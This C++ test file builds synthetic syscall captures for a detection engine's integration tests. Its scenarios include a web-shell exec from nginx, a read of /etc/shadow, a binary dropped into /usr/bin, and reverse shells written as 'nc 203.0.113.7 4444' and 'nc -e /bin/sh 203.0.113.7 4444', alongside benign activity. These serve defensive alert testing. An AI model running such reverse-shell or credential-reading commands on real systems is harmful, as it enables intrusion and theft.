// The attack-scenario captures (see attack_captures.h). One function per
// scenario keeps the values an expected alert depends on next to each other;
// tests/data/attack_scenarios/README.md quotes them when deriving the alerts.
#include "attack_captures.h"

#include <functional>
#include <stdexcept>

#include "engine/sources/capture_builder.h"

namespace eg::itest {
namespace {

constexpr uint64_t kBase = 1772438400000000000ULL;  // 2026-03-02T08:00:00Z
constexpr int64_t kAtFdCwd = -100;
constexpr uint32_t kORdonly = 1, kOWronly = 2, kOCreat = 4, kOTrunc = 256;  // scap file_flags
constexpr uint32_t kExeLowerLayer = 8;                                       // scap execve_flags
constexpr uint32_t kNoLoginUid = 0xFFFFFFFFu;
constexpr uint32_t kPts0 = 34816, kPts1 = 34817;  // (136 << 8) | minor
constexpr const char* kContainerId = "3f9a1c0d2b4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8";

// Second `s` of the scenario timeline plus `ns` nanoseconds.
uint64_t at(uint64_t s, uint64_t ns) { return kBase + s * 1000000000ULL + ns; }

std::vector<std::string> container_cgroups() {
  std::string path = std::string("/system.slice/docker-") + kContainerId + ".scope";
  return {"cpu=" + path, "memory=" + path, "pids=" + path};
}

struct Proc {
  int64_t pid, ppid;
  std::string comm, exe, exepath;
  std::vector<std::string> args;
  std::string cwd;
  uint32_t uid;
  uint32_t tty = 0;
  uint32_t loginuid = kNoLoginUid;
  std::vector<std::string> cgroups = {};
};

void add_proc(CaptureBuilder& b, const Proc& p) {
  ThreadSnapshot t;
  t.tid = t.pid = p.pid;
  t.ptid = p.ppid;
  t.comm = p.comm;
  t.exe = p.exe;
  t.exepath = p.exepath;
  t.args = p.args;
  t.cwd = p.cwd;
  t.uid = t.gid = p.uid;
  t.tty = p.tty;
  t.loginuid = p.loginuid;
  t.cgroups = p.cgroups;
  if (!p.cgroups.empty()) t.vtid = t.vpid = 1;
  b.add_thread(t);
}

// A successful execve exit of `tid` into the program described by `p`.
void add_execve(CaptureBuilder& b, uint64_t ts, const Proc& p, const std::string& filename,
                const std::string& trusted_exepath) {
  b.add("execve", p.pid, ts,
        {{"res", 0}, {"exe", p.exe}, {"args", ParamValue::strings(p.args)}, {"tid", p.pid}, {"pid", p.pid},
         {"ptid", p.ppid}, {"cwd", p.cwd}, {"fdlimit", 1024}, {"comm", p.comm},
         {"cgroups", ParamValue::strings(p.cgroups)},
         {"env", ParamValue::strings({"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"})},
         {"tty", p.tty}, {"vpgid", p.pid}, {"loginuid", p.loginuid}, {"flags", kExeLowerLayer},
         {"uid", p.uid}, {"trusted_exepath", trusted_exepath}, {"pgid", p.pid}, {"gid", p.uid},
         {"filename", filename}});
}

// Both sides of a fork: the parent's clone exit (res = child) and the child's (res = 0).
void add_fork(CaptureBuilder& b, uint64_t ts, const Proc& parent, int64_t child) {
  auto side = [&](int64_t tid, int64_t res, int64_t ptid, uint64_t when) {
    b.add("clone", tid, when,
          {{"res", res}, {"exe", parent.exe}, {"args", ParamValue::strings(parent.args)}, {"tid", tid},
           {"pid", tid}, {"ptid", ptid}, {"cwd", parent.cwd}, {"fdlimit", 1024}, {"comm", parent.comm},
           {"cgroups", ParamValue::strings(parent.cgroups)}, {"flags", 0}, {"uid", parent.uid},
           {"gid", parent.uid}, {"vtid", tid}, {"vpid", tid}});
  };
  side(parent.pid, child, parent.ppid, ts);
  side(child, 0, parent.pid, ts + 500);
}

void add_open(CaptureBuilder& b, int64_t tid, uint64_t ts, int64_t fd, const std::string& name, uint32_t flags,
              uint32_t mode) {
  b.add("openat", tid, ts, {{"fd", fd}, {"dirfd", kAtFdCwd}, {"name", name}, {"flags", flags}, {"mode", mode}});
  b.add("close", tid, ts + 100000, {{"res", 0}, {"fd", fd}});
}

void add_tcp_connect(CaptureBuilder& b, int64_t tid, uint64_t ts, int64_t fd, const std::string& sip,
                     uint16_t sport, const std::string& dip, uint16_t dport) {
  b.add("socket", tid, ts - 4, {{"fd", fd}, {"domain", 2}, {"type", 1}, {"proto", 0}});
  b.add("connect", tid, ts, {{"res", 0}, {"tuple", ParamValue::socktuple_inet(sip, sport, dip, dport)},
                             {"fd", fd}, {"addr", ParamValue::sockaddr_inet(dip, dport)}});
}

// The host both scenarios share: systemd, nginx (master as root, worker as
// www-data), sshd and root's interactive bash on pts/0.
const Proc kSystemd{1, 0, "systemd", "/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd", {}, "/", 0};
const Proc kNginxMaster{100, 1, "nginx", "/usr/sbin/nginx", "/usr/sbin/nginx", {"-g", "daemon off;"}, "/", 0};
const Proc kNginxWorker{101, 100, "nginx", "/usr/sbin/nginx", "/usr/sbin/nginx", {"-g", "daemon off;"}, "/var/www", 33};
const Proc kSshd{250, 1, "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd", {"-D"}, "/", 0};
const Proc kBash{300, 250, "bash", "-bash", "/usr/bin/bash", {}, "/root", 0, kPts0, 0};

// A child of root's bash that has forked but not yet exec'd.
Proc bash_child(int64_t pid) {
  Proc p = kBash;
  p.pid = pid;
  p.ppid = kBash.pid;
  return p;
}

void add_host(CaptureBuilder& b) {
  b.add_user(0, 0, "root", "/root", "/bin/bash");
  b.add_user(33, 33, "www-data", "/var/www", "/usr/sbin/nologin");
  b.add_group(0, "root");
  b.add_group(33, "www-data");
  for (const Proc* p : {&kSystemd, &kNginxMaster, &kNginxWorker, &kSshd, &kBash}) add_proc(b, *p);
}

// 1: the nginx worker forks and the child execs `sh -c id` (remote code execution).
void web_shell(CaptureBuilder& b) {
  add_fork(b, at(1, 100000000), kNginxWorker, 200);
  Proc sh{200, 101, "sh", "/bin/sh", "", {"-c", "id"}, "/var/www", 33};
  add_execve(b, at(1, 123456789), sh, "/bin/sh", "/usr/bin/dash");
}

// 2: root runs `cat /etc/shadow` from the ssh session.
void shadow_read(CaptureBuilder& b) {
  add_proc(b, bash_child(301));
  Proc cat{301, 300, "cat", "cat", "", {"/etc/shadow"}, "/root", 0, kPts0, 0};
  add_execve(b, at(2, 5000), cat, "/usr/bin/cat", "/usr/bin/cat");
  add_open(b, 301, at(2, 250000042), 3, "/etc/shadow", kORdonly, 0);
}

// 3: root drops a binary: `cp /tmp/.x/evil /usr/bin/evil`.
void bin_write(CaptureBuilder& b) {
  add_proc(b, bash_child(302));
  Proc cp{302, 300, "cp", "cp", "", {"/tmp/.x/evil", "/usr/bin/evil"}, "/root", 0, kPts0, 0};
  add_execve(b, at(3, 5000), cp, "/usr/bin/cp", "/usr/bin/cp");
  add_open(b, 302, at(3, 300000003), 4, "/usr/bin/evil", kOWronly | kOCreat | kOTrunc, 0755);
}

// 4: a reverse-shell style `nc 203.0.113.7 4444` from the ssh session.
void outbound_nc(CaptureBuilder& b) {
  add_proc(b, bash_child(303));
  Proc nc{303, 300, "nc", "nc", "", {"203.0.113.7", "4444"}, "/root", 0, kPts0, 0};
  add_execve(b, at(4, 5000), nc, "/usr/bin/nc", "/usr/bin/nc.openbsd");
  add_tcp_connect(b, 303, at(4, 400000004), 3, "10.0.0.5", 40312, "203.0.113.7", 4444);
}

// 5: a docker container: the runtime's init execs an interactive bash on pts/1,
// which forks `nc -e /bin/sh 203.0.113.7 4444`, which connects out.
void container(CaptureBuilder& b) {
  Proc shim{400, 1, "containerd-shim", "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2",
            {"-namespace", "moby"}, "/", 0};
  Proc init{410, 400, "runc:[2:INIT]", "runc", "/usr/bin/runc", {"init"}, "/", 0, 0, kNoLoginUid,
            container_cgroups()};
  add_proc(b, shim);
  add_proc(b, init);
  // No user list entry for the container: a capture's user list carries host
  // users only, and libsinsp names an unknown uid 0 "root".
  Proc bash{410, 400, "bash", "/bin/bash", "", {}, "/", 0, kPts1, kNoLoginUid, container_cgroups()};
  add_execve(b, at(5, 500000005), bash, "/bin/bash", "/usr/bin/bash");
  add_fork(b, at(5, 550000000), bash, 411);
  Proc nc{411, 410, "nc", "nc", "", {"-e", "/bin/sh", "203.0.113.7", "4444"}, "/", 0, kPts1, kNoLoginUid,
          container_cgroups()};
  add_execve(b, at(5, 600000006), nc, "/usr/bin/nc", "/usr/bin/nc.traditional");
  add_tcp_connect(b, 411, at(5, 700000007), 3, "172.17.0.2", 39000, "203.0.113.7", 4444);
}

// 6: activity that must not alert: nginx serving a page, sshd checking a
// password, apt-get installing a binary, a local health check, `ls -la`, and
// two failed attempts.
void benign(CaptureBuilder& b) {
  add_open(b, 101, at(6, 100000000), 7, "/var/www/html/index.html", kORdonly, 0);
  add_open(b, 250, at(6, 200000000), 5, "/etc/shadow", kORdonly, 0);
  add_proc(b, {500, 300, "apt-get", "apt-get", "/usr/bin/apt-get", {"install", "-y", "jq"}, "/root", 0, kPts0, 0});
  add_open(b, 500, at(6, 300000000), 4, "/usr/bin/jq", kOWronly | kOCreat | kOTrunc, 0755);
  add_proc(b, {510, 1, "curl", "curl", "/usr/bin/curl", {"-s", "http://127.0.0.1:8080/healthz"}, "/", 0});
  add_tcp_connect(b, 510, at(6, 400000000), 3, "127.0.0.1", 51000, "127.0.0.1", 8080);
  add_proc(b, bash_child(304));
  Proc ls{304, 300, "ls", "ls", "", {"-la"}, "/root", 0, kPts0, 0};
  add_execve(b, at(6, 500000000), ls, "/usr/bin/ls", "/usr/bin/ls");
  // Attempts that fail change nothing: www-data may not read /etc/shadow
  // (EACCES), and a forked worker's execve of a missing shell fails (ENOENT).
  b.add("openat", 101, at(6, 600000000), {{"fd", -13}, {"dirfd", kAtFdCwd}, {"name", "/etc/shadow"},
                                          {"flags", kORdonly}, {"mode", 0}});
  Proc worker = kNginxWorker;
  worker.pid = 201;
  worker.ppid = 101;
  add_proc(b, worker);
  b.add("execve", 201, at(6, 700000000),
        {{"res", -2}, {"exe", "/bin/zsh"}, {"args", ParamValue::strings({"-c", "id"})}, {"tid", 201},
         {"pid", 201}, {"ptid", 101}, {"cwd", "/var/www"}, {"comm", "zsh"}, {"uid", 33}, {"gid", 33},
         {"loginuid", kNoLoginUid}, {"filename", "/bin/zsh"}});
}

struct Scenario {
  std::string name;
  std::function<void(CaptureBuilder&)> add;
};

const std::vector<Scenario>& scenarios() {
  static const std::vector<Scenario> table = {
      {"web_shell", web_shell}, {"shadow_read", shadow_read}, {"bin_write", bin_write},
      {"outbound_nc", outbound_nc}, {"container", container}, {"benign", benign},
  };
  return table;
}

}  // namespace

const std::vector<std::string>& attack_scenario_names() {
  static const std::vector<std::string> names = [] {
    std::vector<std::string> n;
    for (const auto& s : scenarios()) n.push_back(s.name);
    return n;
  }();
  return names;
}

bool write_attack_capture(const std::string& name, const std::string& path, std::string& error) {
  try {
    CaptureBuilder b("attack-lab");
    add_host(b);
    bool found = false;
    for (const auto& s : scenarios()) {
      if (name != "all" && s.name != name) continue;
      s.add(b);
      found = true;
    }
    if (!found) throw std::invalid_argument("unknown attack scenario " + name);
    return b.write_file(path, error);
  } catch (const std::exception& e) {
    error = e.what();
    return false;
  }
}

}  // namespace eg::itest
